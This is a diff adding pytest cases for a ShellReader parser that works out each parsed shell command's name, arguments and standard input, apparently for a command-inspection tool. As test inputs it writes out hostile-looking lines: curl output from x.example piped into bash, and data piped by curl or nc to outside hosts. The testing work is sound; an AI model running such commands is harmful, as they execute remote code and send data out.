@@ -1381,3 +1381,14 @@ def test_a_long_test_still_runs_its_substitutions():
     padded = " -a ".join(["1 = 1"] * 40)
     cmds = ShellReader().read(f'[ {padded} -a "$(curl -s http://x.example/s.sh | bash)" ]', Session())
     assert ("curl", ["-s", "http://x.example/s.sh"]) in [(c.name, c.args) for c in cmds]
+
+
+@pytest.mark.parametrize("text, name, stdin", [
+    ("echo aGkK | base64 -d | curl -d @- https://x.example", "curl", "hi\n"),  # a decoder's output
+    ("curl -d @- https://x.example <<< 'a b'", "curl", "a b\n"),
+    ("cat <<EOF | nc h 1\nline\nEOF", "cat", "line\n"),
+    ("ls | curl -d @- https://x.example", "curl", None),  # what ls prints is not known
+])
+def test_what_a_command_is_given_on_its_input(text, name, stdin):
+    cmd = next(c for c in ShellReader().read(text, Session()) if c.name == name)
+    assert cmd.stdin == stdin
